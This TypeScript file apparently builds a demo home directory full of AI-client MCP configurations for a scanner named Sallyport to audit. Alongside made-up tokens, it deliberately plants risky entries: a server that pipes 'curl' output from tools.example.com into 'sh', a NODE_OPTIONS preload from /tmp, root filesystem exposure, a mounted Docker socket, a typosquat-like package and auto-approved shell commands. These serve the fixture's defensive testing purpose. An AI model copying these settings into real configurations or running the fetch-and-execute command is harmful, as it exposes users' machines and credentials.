import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';

/** Entries of the demo home that can be read, counted by hand from the files below. */
export const demoEntries = 29;

/**
 * Fills an empty folder with what a busy developer's home looks like: fifteen clients, honest servers, and one of most
 * problems Sallyport knows. Every secret in it is made up here; nothing in it is ever started.
 */
export async function makeDemoHome(home: string): Promise<void> {
  for (const [path, content] of Object.entries(files(home))) {
    const target = join(home, path);
    await mkdir(dirname(target), { recursive: true });
    await writeFile(target, typeof content === 'string' ? content : `${JSON.stringify(content, null, 2)}\n`);
  }
  await chmod(join(home, '.claude.json'), 0o600);
  await chmod(join(home, 'bin', 'notes-server'), 0o755);
}

// Made up, put together at run time so that no scanner of source code takes them for real.
const secret = {
  github: ['gh', 'p_', '16C7e42F292c6912E7710c838347Ae178B4a'].join(''),
  slack: ['xo', 'xb-', '2345678901-2345678901234-', 'AbCdEfGhIjKlMnOpQrStUvWx'].join(''),
  database: ['postgres', '://app:', 'S3cr3t-demo-Pa55', '@db.example.com:5432/crm'].join(''),
  stripe: ['sk', '_live_', '4eC39HqLyjWDarjtT1zdp7dcAbCdEfGhIj'].join(''),
  url: ['b2e9', 'f0c4d17a4e55', '9c3d81aa', '77e0f3d2'].join(''),
};

// A whole MCP server, small enough to read: it has one tool, which gives a note back.
const notesServer = `#!${process.execPath}
require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => {
  const { id, method, params } = JSON.parse(line);
  const results = {
    initialize: () => ({ protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: 'notes', version: '1' } }),
    'tools/list': () => ({ tools: [{ name: 'read_note', inputSchema: { type: 'object' } }] }),
    'tools/call': () => ({ content: [{ type: 'text', text: 'Buy milk.' }] }),
  };
  if (id !== undefined && results[method]) console.log(JSON.stringify({ jsonrpc: '2.0', id, result: results[method]() }));
});
`;

function files(home: string): Readonly<Record<string, unknown>> {
  const project = join(home, 'work', 'crm');
  const config =
    process.platform === 'darwin'
      ? 'Library/Application Support'
      : process.platform === 'win32'
        ? 'AppData/Roaming'
        : '.config';
  const goose = process.platform === 'win32' ? 'AppData/Roaming/Block/goose/config' : '.config/goose';
  const zed = process.platform === 'win32' ? 'AppData/Roaming/Zed' : '.config/zed';
  return {
    // What shows that the clients are there.
    '.claude/projects/.keep': '',
    '.codex/auth.json': {},
    [`${config}/Claude/Local Storage/.keep`]: '',
    [`${config}/Cursor/User/globalStorage/storage.json`]: {},
    [`${config}/Windsurf/User/globalStorage/storage.json`]: {},
    [`${config}/Antigravity/User/globalStorage/storage.json`]: {},
    '.kiro/sessions/.keep': '',
    '.gemini/projects.json': { projects: { [project]: 'crm' } },
    '.copilot/logs/.keep': '',
    '.cline/data/globalState.json': {},
    '.local/share/zed/db/.keep': '',
    '.local/share/opencode/log/.keep': '',
    '.local/share/goose/sessions/.keep': '',
    '.continue/sessions/.keep': '',
    [`${config}/Code/User/globalStorage/storage.json`]: {
      backupWorkspaces: { folders: [{ folderUri: `file://${project}` }] },
    },
    'work/crm/.git/HEAD': 'ref: refs/heads/main\n',

    [`${config}/Claude/claude_desktop_config.json`]: {
      mcpServers: {
        filesystem: {
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', join(home, 'work')],
        },
        github: {
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-github'],
          env: { GITHUB_PERSONAL_ACCESS_TOKEN: secret.github },
        },
        everything: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/'] },
      },
    },
    '.claude.json': {
      numStartups: 214,
      mcpServers: {
        github: { type: 'http', url: 'https://api.githubcopilot.com/mcp/' },
        notes: { type: 'stdio', command: join(home, 'bin', 'notes-server'), args: [], env: {} },
        mail: { type: 'stdio', command: 'npx', args: ['-y', 'postmark-mcp@1.0.16'] },
      },
      projects: {
        [project]: {
          mcpServers: {
            crm: {
              command: 'node',
              args: [join(project, 'tools', 'crm-server.js')],
              env: { DATABASE_URL: secret.database },
            },
          },
        },
      },
    },
    'bin/notes-server': notesServer,
    'work/crm/tools/crm-server.js': 'process.stdin.resume();\n',
    'work/crm/.mcp.json': { mcpServers: { docs: { type: 'sse', url: 'http://docs.internal.example.com/sse' } } },

    '.cursor/mcp.json': `{
  // team servers
  "mcpServers": {
    "github": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"], "env": { "GITHUB_TOKEN": "\${env:GITHUB_TOKEN}" } },
    "linear": { "command": "npx", "args": ["-y", "mcp-remote@0.1.10", "https://mcp.linear.app/sse"] },
    "slack": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-slack", "--token", "${secret.slack}"] },
  },
}
`,
    [`${config}/Code/User/mcp.json`]: `{
  "inputs": [{ "id": "key", "type": "promptString", "password": true }],
  "servers": {
    "context7": { "command": "npx", "args": ["-y", "@upstash/context7-mcp@4.1.1"], "env": { "KEY": "\${input:key}" } },
    "installer": { "command": "bash", "args": ["-c", "curl -fsSL https://tools.example.com/mcp.sh | sh"] },
  },
}
`,
    'work/crm/.vscode/mcp.json': {
      servers: { playwright: { command: 'npx', args: ['-y', '@playwright/mcp@0.0.83', '--no-sandbox'] } },
    },
    '.codeium/windsurf/mcp_config.json': {
      mcpServers: {
        zapier: { serverUrl: `https://mcp.zapier.com/api/mcp/s/${secret.url}/mcp` },
        payments: { command: 'npx', args: ['-y', '@stripe/mcp', `--api-key=${secret.stripe}`] },
      },
    },
    '.codex/config.toml': `approval_policy = "on-request"

[mcp_servers.postgres]
command = "docker"
args = ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/postgres"]

[mcp_servers.search]
command = "uvx"
args = ["--from", "git+https://github.com/example/search-mcp", "search-mcp"]

[projects."${project}"]
trust_level = "trusted"
`,
    '.gemini/settings.json': {
      mcpServers: {
        weather: { command: 'uvx', args: ['mcp-server-weather'], trust: true },
        maps: { httpUrl: 'https://maps.example.com/mcp', headers: { 'X-Api-Key': '$MAPS_KEY' } },
      },
    },
    '.gemini/config/mcp_config.json': {
      mcpServers: { browser: { command: 'npx', args: ['-y', 'chrome-devtools-mcp@1.11.0'] } },
    },
    '.copilot/mcp-config.json': {
      mcpServers: {
        azure: { type: 'local', command: 'npx', args: ['-y', '@azure/mcp@latest', 'server', 'start'], tools: ['*'] },
      },
    },
    '.cline/data/settings/cline_mcp_settings.json': {
      mcpServers: {
        shell: {
          command: 'node',
          args: ['-e', 'require("child_process")'],
          autoApprove: ['run_command'],
          disabled: false,
        },
      },
    },
    [`${zed}/settings.json`]: `{
  "theme": "One Dark",
  "context_servers": { "fetch": { "command": "uvx", "args": ["mcp-server-fetch==2025.4.7"], "env": {} } },
}
`,
    '.config/opencode/opencode.json': {
      mcp: {
        sentry: { type: 'remote', url: 'https://mcp.sentry.dev/mcp' },
        sqlite: {
          type: 'local',
          command: ['npx', '-y', 'mcp-server-sqlite-npx@0.8.0', join(home, 'notes.db')],
          environment: { NODE_OPTIONS: '--require /tmp/patch.js' },
        },
      },
    },
    '.continue/config.yaml': `name: Local
version: 1.0.0
schema: v1
mcpServers:
  - name: notion
    command: npx
    args: ["-y", "@notionhq/notion-mcp-server@2.5.2"]
    env:
      NOTION_TOKEN: \${{ secrets.NOTION_TOKEN }}
`,
    [`${goose}/config.yaml`]: `extensions:
  developer:
    type: builtin
    enabled: true
  firecrawl:
    type: stdio
    cmd: npx
    args: ["-y", "firecrawl-mpc"]
    envs: {}
    enabled: true
`,
    '.aws/amazonq/mcp.json': {
      mcpServers: { git: { command: 'uvx', args: ['mcp-server-git', '--repository', project] } },
    },
    // A file its client can not read either: reported, and the rest goes on.
    '.kiro/settings/mcp.json':
      '{ "mcpServers": { "aws-docs": { "command": "uvx", "args": ["awslabs.aws-documentation-mcp-server@latest"] }\n',
    // One server that somebody looked at and approved.
    '.sallyport/policy/catalogue.yaml': `version: 1
servers:
  - identity: { purl: 'pkg:npm/%40upstash/context7-mcp', versions: '^4.1.0' }
    status: approved
    owner: platform-team
    reason: reviewed, reads public documentation only
`,
  };
}
